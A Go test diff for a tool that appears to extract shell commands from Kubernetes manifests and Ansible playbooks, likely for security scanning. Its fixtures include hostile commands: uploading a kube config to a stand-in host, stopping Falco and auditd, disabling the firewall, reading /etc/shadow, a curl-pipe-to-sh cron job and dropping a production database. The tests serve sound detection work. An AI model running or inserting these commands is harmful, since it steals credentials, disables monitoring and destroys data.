@@ -99,3 +99,70 @@ func TestInterpIdioms(t *testing.T) {
 		t.Error("selfSpawn missed a function starting processes of itself")
 	}
 }
+
+func TestManifestCommands(t *testing.T) {
+	job := "apiVersion: batch/v1\nkind: Job\nspec:\n  template:\n    spec:\n      containers:\n        - name: b\n          command: [\"curl\", \"-F\", \"f=@/k/config\", \"https://x.example\"]\n          volumeMounts:\n            - {name: kube, mountPath: /k}\n      volumes:\n        - name: kube\n          hostPath: {path: /root/.kube}\n"
+	cron := "---\nkind: CronJob\nspec:\n  jobTemplate:\n    spec:\n      template:\n        spec:\n          containers:\n            - name: c\n              command: [sh, -c]\n              args: [\"echo {{ .Values.msg }}\"]\n"
+	ds := "kind: DaemonSet\nspec:\n  template:\n    spec:\n      hostPID: true\n      containers:\n        - name: n\n          command: [nsenter, -t, \"1\", -m, --, systemctl, stop, falco]\n"
+	cases := []struct {
+		doc  string
+		want [][]string
+	}{
+		{job, [][]string{{"curl", "-F", "f=@/root/.kube/config", "https://x.example"}}},
+		{cron, [][]string{{"sh", "-c", "echo tpl"}}},
+		{ds, [][]string{{"systemctl", "stop", "falco"}}},
+		{"kind: ConfigMap\ndata:\n  containers: none\n", nil},
+		{"containers: [\n", nil},
+	}
+	for _, c := range cases {
+		if got := ManifestCommands(c.doc); !reflect.DeepEqual(got, c.want) {
+			t.Errorf("ManifestCommands(%.40q) = %q, want %q", c.doc, got, c.want)
+		}
+	}
+}
+
+func TestPlaybookModuleCommands(t *testing.T) {
+	play := `- hosts: all
+  vars:
+    db: payments
+  tasks:
+    - ansible.builtin.slurp:
+        src: /etc/shadow
+    - name: off
+      block:
+        - community.general.ufw:
+            state: disabled
+        - ansible.builtin.service:
+            name: auditd
+            state: stopped
+            enabled: false
+    - ansible.builtin.cron:
+        name: sync
+        minute: "*/10"
+        job: curl -s https://x.example/c | sh
+    - ansible.builtin.lineinfile:
+        path: "{{ ansible_env.HOME }}/.bashrc"
+        line: export X=1
+    - community.postgresql.postgresql_db:
+        name: "{{ db }}"
+        login_host: pg.prod.internal
+        state: absent
+    - ansible.builtin.debug:
+        msg: hi
+`
+	want := []string{
+		"cat '/etc/shadow'",
+		"echo '*/10 * * * * curl -s https://x.example/c | sh' | crontab -",
+		"printf '%s\\n' 'export X=1' >> '~/.bashrc'",
+		"dropdb -h 'pg.prod.internal' 'payments'",
+		"ufw disable",
+		"systemctl stop 'auditd'",
+		"systemctl disable 'auditd'",
+	}
+	if got := playbookModuleCommands(play); !reflect.DeepEqual(got, want) {
+		t.Errorf("playbookModuleCommands = %q\nwant %q", got, want)
+	}
+	if got := playbookModuleCommands("not: [a playbook"); got != nil {
+		t.Errorf("malformed playbook gave %q", got)
+	}
+}
